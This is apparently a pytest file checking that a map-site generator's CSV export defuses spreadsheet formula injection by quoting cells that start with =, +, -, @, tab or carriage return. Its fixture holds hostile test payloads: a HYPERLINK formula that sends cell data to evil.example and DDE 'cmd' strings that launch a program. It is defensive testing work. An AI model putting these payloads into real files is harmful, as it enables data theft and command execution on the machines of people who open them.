"""Exported CSV cannot run as formulas (OWASP CSV injection): figures.csv of export-data and build.

A cell that starts with =, +, -, @, a tab or a carriage return is written with a single quote
before it, which spreadsheets take as "this is text"; read back with a CSV reader, the text
after that quote is exactly the data's.
"""

from __future__ import annotations

import csv
import shutil

import pytest
from click.testing import CliRunner
from test_loader import edit_csv

from mapgen.cli import cli
from routes.export import FORMULA_STARTS, as_text_cell
from routes.loader import default_data_dir

PAYLOADS = {
    "quote": '=HYPERLINK("http://evil.example/?"&A1,"Click for the source")',
    "note": "+cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "publisher": "=1+1",
}


@pytest.fixture
def poisoned(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(default_data_dir(), data)
    edit_csv(data, "figures.csv", "spain_loan", "quote", PAYLOADS["quote"])
    edit_csv(data, "figures.csv", "spain_loan", "note", PAYLOADS["note"])
    edit_csv(data, "figures.csv", "spain_loan", "note_ru", "перевод")
    for column in ("title", "author", "publisher"):
        edit_csv(data, "sources.csv", source_of(data, "spain_loan"), column, PAYLOADS[column])
    return data


def source_of(data, figure_id: str) -> str:
    with (data / "figures.csv").open(encoding="utf-8", newline="") as f:
        return next(row["source"] for row in csv.DictReader(f) if row["id"] == figure_id)


def read_rows(path):
    with path.open(encoding="utf-8", newline="") as f:
        return {row["id"]: row for row in csv.DictReader(f)}


def check_cells(row: dict) -> None:
    expected = {
        "quote": "quote",
        "note": "note",
        "source_title": "title",
        "source_author": "author",
        "source_publisher": "publisher",
    }
    for column, payload in expected.items():
        cell = row[column]
        assert cell == "'" + PAYLOADS[payload], (column, cell)
        assert cell[1:] == PAYLOADS[payload]  # the text itself, intact


def test_export_data_writes_formulas_as_text(poisoned, tmp_path):
    out = tmp_path / "exported"
    result = CliRunner().invoke(cli, ["export-data", "--data", str(poisoned), "--out", str(out)])
    assert result.exit_code == 0, result.stderr
    rows = read_rows(out / "figures.csv")
    check_cells(rows["spain_loan"])
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_built_site_offers_the_same_safe_file(poisoned, tmp_path):
    out = tmp_path / "site"
    result = CliRunner().invoke(
        cli, ["build", "spain_1936_39", "--lang", "en", "--data", str(poisoned), "--out", str(out)]
    )
    assert result.exit_code == 0, result.stderr
    result = CliRunner().invoke(
        cli, ["build", "--lang", "en", "--data", str(poisoned), "--out", str(out)]
    )
    assert result.exit_code == 0, result.stderr
    check_cells(read_rows(out / "data" / "figures.csv")["spain_loan"])


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@x", "\t1", "\r1", "Murmansk", "", "'quoted'", "1-2"]
)
def test_only_formula_starts_are_changed(text):
    assert as_text_cell(text) == ("'" + text if text[:1] in FORMULA_STARTS and text else text)


@pytest.mark.parametrize("start", ["\t", "\r"], ids=["tab", "carriage-return"])
def test_tabs_and_returns_from_an_atlas_made_in_python(atlas, start):
    """The loader trims cells; an Atlas made in Python can still start a text with them."""
    import io
    from dataclasses import replace

    from routes.export import figures_csv

    figures = tuple(
        replace(f, note=start + "=1+1") if f.id == "spain_loan" else f for f in atlas.figures
    )
    rows = {
        r["id"]: r
        for r in csv.DictReader(
            io.StringIO(figures_csv(replace(atlas, figures=figures)), newline="")
        )
    }
    assert rows["spain_loan"]["note"] == "'" + start + "=1+1"
